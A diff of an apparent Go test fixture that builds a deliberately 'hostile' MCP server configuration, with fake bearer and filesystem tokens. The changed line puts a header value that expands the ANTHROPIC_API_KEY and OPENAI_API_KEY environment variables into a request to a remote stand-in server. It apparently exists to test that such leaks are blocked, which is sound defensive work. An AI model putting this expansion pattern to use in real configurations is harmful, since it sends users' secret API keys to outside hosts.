@@ -33,7 +33,7 @@ func Request(harness string, ambient bool) []byte {
 		`"resources":[{"relPath":"` + resource + `","content":"- [ ] tests"}]}],` +
 		`"mcpServers":[` +
 		`{"id":"` + remoteID + `","transport":"http","url":"https://mcp.example.com/mcp",` +
-		`"headers":{"Authorization":"Bearer s3cr3t-hostile-9d1e","` + expandHeader + `":"t-${GEMINI_API_KEY}-$OPENAI_API_KEY"},` +
+		`"headers":{"Authorization":"Bearer s3cr3t-hostile-9d1e","` + expandHeader + `":"t-${ANTHROPIC_API_KEY}-$OPENAI_API_KEY"},` +
 		`"secretKeys":["Authorization"],"allowedTools":["search"],` +
 		`"oauth":{"clientId":"loadout-hostile","callbackPort":8765,"scopes":["docs:read"],"authServerMetadataUrl":"https://auth.example.com/meta"}},` +
 		`{"id":"` + localID + `","command":"/usr/bin/mcp-fs","args":["--root","."],"env":{"FS_TOKEN":"fs-tok-hostile-77aa"},` +
